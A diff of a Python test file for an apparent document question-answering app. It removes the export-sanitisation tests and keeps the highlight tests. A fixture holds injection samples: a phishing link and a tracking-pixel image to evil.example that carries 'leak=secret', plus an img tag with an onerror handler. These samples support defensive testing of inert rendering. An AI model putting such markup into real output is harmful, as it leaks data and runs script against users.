@@ -1,12 +1,8 @@
-"""Presentation: exports and highlights render document text inert; cite blocks and examples come from data."""
+"""Presentation: highlights render document text inert; cite blocks and examples come from data."""
 from __future__ import annotations
 
-import datetime as dt
-
-from markdown_it import MarkdownIt
-
 from cityqa.i18n import TEXT, column
-from cityqa.present import cite_block, conversation_markdown, example_questions, highlight, inert
+from cityqa.present import cite_block, example_questions, highlight
 
 PHISH = "See [x](http://evil.example/phish) and ![](https://evil.example/pixel.png?leak=secret) <img src=y onerror=z>."
 REF = {"zh": "作者. 题名[N]. 报纸, 2023-03-20(2).", "en": "Author, A. (2023, March 20). Title. Paper, 2."}
@@ -22,22 +18,6 @@ def turns() -> list[dict]:
               "citations": [citation(1, PHISH), citation(2, "Second quote.")]}
     return [{"role": "user", "content": "What about [x](http://evil.example/q)?"}, {"role": "assistant",
                                                                                     "answer": answer}]
-
-
-def test_the_export_neutralises_links_images_and_html_from_documents():
-    markdown = conversation_markdown(turns(), "en", [{"title": "Doc ![](http://evil.example/t.png)"}],
-                                     dt.datetime(2026, 11, 28, 9, 30))
-    html = MarkdownIt("commonmark").render(markdown)
-    assert "<a " not in html and "<img" not in html
-    assert "<code>http://evil.example/phish)</code>" in html
-    assert "<code>https://evil.example/pixel.png?leak=secret)</code>" in html
-
-
-def test_the_export_has_date_corpus_labels_by_language_and_one_reference_list():
-    markdown = conversation_markdown(turns(), "en", [{"title": "Doc"}], dt.datetime(2026, 11, 28, 9, 30))
-    assert "- Exported: 2026-11-28 09:30" in markdown and "- Corpus: Doc" in markdown
-    assert markdown.count(inert(REF["en"])) == 1 and markdown.rstrip().endswith(inert(REF["en"]))
-    assert "## Q:" in markdown and "问" not in markdown
 
 
 def test_highlight_marks_every_quote_in_the_paragraph_and_keeps_the_rest_inert():
